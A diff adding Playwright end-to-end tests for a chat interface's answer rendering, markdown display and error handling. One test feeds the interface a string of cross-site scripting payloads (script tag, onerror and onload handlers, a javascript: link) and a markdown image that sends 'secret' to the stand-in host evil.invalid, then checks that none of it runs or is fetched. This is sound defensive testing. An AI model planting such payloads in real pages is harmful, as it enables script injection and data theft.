@@ -1,0 +1,98 @@
+"""What an answer looks like while and after it is written; and that it can do no harm."""
+
+import re
+
+from playwright.sync_api import Route, expect
+
+from tests.e2e.app import ANSWER_MS, SIGN_IN_MS, App
+
+HOSTILE = (
+    '<script>window.harmed = 1</script><img src="x" onerror="window.harmed = 2"> '
+    "[click](javascript:window.harmed=3) <svg onload=window.harmed=4> ![seen](https://evil.invalid/?q=secret)"
+)
+
+
+def test_an_answer_is_drawn_as_it_is_written(chat: App) -> None:
+    """Text grows word by word, screen readers are told to wait, and the end is marked."""
+    log = chat.by("log")
+    chat.send("count to 120")
+    answer = chat.streaming()
+    expect(log).to_have_attribute("aria-busy", "true")
+    expect(answer.get_by_test_id("activity")).to_have_text("Writing")
+    first = answer.locator(".markdown").inner_text()
+    expect(answer.locator(".markdown")).to_contain_text(re.compile(r"\b60\b"))
+    assert first.split()[0] == "1"
+    assert "60" not in first.split()
+    done = chat.answered("119 120")
+    expect(log).to_have_attribute("aria-busy", "false")
+    expect(log).to_have_attribute("role", "log")
+    expect(done.get_by_test_id("activity")).to_have_count(0)
+
+
+def test_markdown_becomes_what_it_means(chat: App) -> None:
+    """Headings, tables, lists, quotes, links; code in colour, with its language and a copy button."""
+    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    answer = chat.ask("show the long sample, fast", "The end of the long sample.")
+    expect(answer.locator("table")).to_have_count(15)
+    expect(answer.locator("table").first.locator("th")).to_have_text(["hour", "°C", "sky"])
+    expect(answer.locator("h3").first).to_have_text("Fifteen stations")
+    expect(answer.locator("ol").first.locator("li")).to_have_text(["calibrate", "record", "compare"])
+    expect(answer.locator("del").first).to_have_text("1")
+    expect(answer.locator("blockquote").first).to_contain_text("A note on Seoul")
+    expect(answer).to_contain_text("<gusts to 21 km/h>")
+    link = answer.get_by_role("link", name="archive").first
+    expect(link).to_have_attribute("rel", "noopener noreferrer")
+
+    block = answer.locator(".code").first
+    expect(block.locator(".code-lang")).to_have_text("python")
+    expect(block.locator(".hljs-keyword").first).to_have_text("def")
+    block.get_by_role("button", name="Copy code").click()
+    expect(block.get_by_role("button", name="Copied")).to_be_visible()
+    copied = chat.page.evaluate("navigator.clipboard.readText()")
+    assert copied == block.locator("code").inner_text()
+    assert copied.startswith("def station_1(")
+
+
+def test_what_the_model_says_is_never_run_or_fetched(chat: App) -> None:
+    """The demo says the line back: HTML stays text, a script link is none, a remote image is asked for first."""
+    asked: list[str] = []
+    chat.page.on("request", lambda request: asked.append(request.url))
+    answer = chat.ask(HOSTILE, "onerror=")
+    expect(answer).to_contain_text("<script>window.harmed = 1</script>")
+    expect(answer.locator("script, img, svg[onload], iframe")).to_have_count(0)
+    expect(answer.locator("a")).to_have_count(0)
+    expect(answer.get_by_role("button", name="Show the image from evil.invalid")).to_be_visible()
+    assert chat.page.evaluate("window.harmed") is None
+    assert not [url for url in asked if "evil" in url]
+
+
+def test_a_question_is_shown_as_it_was_typed(chat: App) -> None:
+    chat.ask("**not bold**\n\n  indented & <b>", "You wrote")
+    question = chat.questions.first
+    expect(question.locator("strong, b")).to_have_count(0)
+    assert question.locator(".user-text").inner_text() == "**not bold**\n\n  indented & <b>"
+
+
+def test_a_failed_answer_says_why(chat: App) -> None:
+    """And does not block what is asked next."""
+    chat.send("fail with a provider error")
+    failed = chat.messages("assistant", "error")
+    expect(failed.get_by_role("alert")).to_have_text(re.compile("^The answer failed: ."), timeout=ANSWER_MS)
+    chat.send("2+2")
+    expect(chat.messages("assistant", "done")).to_contain_text("2+2 = 4", timeout=ANSWER_MS)
+
+
+def test_a_saved_failure_says_why_after_a_reload(chat: App) -> None:
+    """The row of the failed answer is given to the real page of history here; the rest of it is the server's."""
+    chat.ask("2+3", "2+3 = 5")
+
+    def fail_the_answer(route: Route) -> None:
+        page = route.fetch().json()
+        error = {"code": "PROVIDER_ERROR", "message": "the key was refused"}
+        page["messages"][-1] |= {"content": "", "reason": "error", "error": error}
+        route.fulfill(json=page)
+
+    chat.page.route(f"**/conversations/{chat.conversation_id}?*", fail_the_answer)
+    chat.page.reload()
+    failed = chat.messages("assistant", "error")
+    expect(failed.get_by_role("alert")).to_have_text("The answer failed: the key was refused", timeout=SIGN_IN_MS)
